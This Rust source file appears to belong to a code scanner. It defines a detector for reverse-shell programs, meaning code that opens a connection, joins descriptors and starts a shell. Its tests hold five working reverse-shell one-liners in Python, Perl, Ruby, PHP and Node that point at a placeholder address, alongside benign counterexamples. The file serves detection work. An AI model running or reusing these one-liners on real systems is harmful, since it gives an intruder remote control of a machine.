//! A shell whose input and output are a connection: whoever is at its other end types the commands.

use super::lex::Token;

/// Words of names that open a connection.
const CONNECTS: [&str; 6] = ["connect", "socket", "tcpsocket", "fsockopen", "dial", "tcpclient"];

/// Words of names that lay one descriptor over another, or hand what one reads to the other.
const JOINS: [&str; 7] = ["dup2", "pty", "reopen", "pipe", "stdin", "openpty", "fdopen"];

/// Programs that read commands.
const SHELLS: [&str; 9] =
    ["sh", "bash", "zsh", "dash", "ksh", "ash", "cmd.exe", "powershell", "powershell.exe"];

/// Whether a program connects, joins descriptors and starts a shell.
pub(super) fn hands_over_a_shell(tokens: &[Token]) -> bool {
    let named = |words: &[&str]| {
        tokens.iter().any(|token| {
            let Token::Name(name) = token else { return false };
            let name = name.to_ascii_lowercase();
            words.iter().any(|word| name.contains(word))
        })
    };
    let texts = || {
        tokens.iter().filter_map(|token| match token {
            Token::Str(text) | Token::Run(text) => Some(text.as_str()),
            _ => None,
        })
    };
    let shell = texts().any(|text| {
        let program = text.split_whitespace().next().unwrap_or_default();
        SHELLS.contains(&super::super::value::base(program))
    });
    // `sh -i <&3`, perl's `open(STDIN, ">&S")`, awk's sockets.
    let joined = named(&JOINS) || texts().any(|text| text.contains("<&") || text.contains(">&"));
    let connected = named(&CONNECTS) || texts().any(|text| text.starts_with("/inet/"));
    shell && connected && joined
}

#[cfg(test)]
mod tests {
    use super::super::{Language, lex};
    use super::hands_over_a_shell;

    #[test]
    fn a_shell_for_somebody_else() {
        for (language, code, is) in [
            (
                Language::Python,
                r#"import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")"#,
                true,
            ),
            (
                Language::Perl,
                r#"use Socket;socket(S,2,1,6);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");"#,
                true,
            ),
            (
                Language::Ruby,
                r#"f=TCPSocket.open("192.0.2.1",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)"#,
                true,
            ),
            (
                Language::Php,
                r#"$s=fsockopen("192.0.2.1",1);exec("/bin/sh -i <&3 >&3 2>&3");"#,
                true,
            ),
            (
                Language::Node,
                r#"var n=require("net"),c=require("child_process").spawn("sh",[]);var s=new n.Socket();s.connect(1,"192.0.2.1",()=>{s.pipe(c.stdin)})"#,
                true,
            ),
            (
                Language::Python,
                r#"import socket,subprocess;socket.create_connection(("localhost",1));subprocess.run(["bash","x.sh"])"#,
                false,
            ),
            (Language::Python, r#"import pty;pty.spawn("bash")"#, false),
            (Language::Node, r#"require("net").connect(1).pipe(process.stdout)"#, false),
        ] {
            assert_eq!(hands_over_a_shell(&lex::tokens(code, language)), is, "{code}");
        }
    }
}
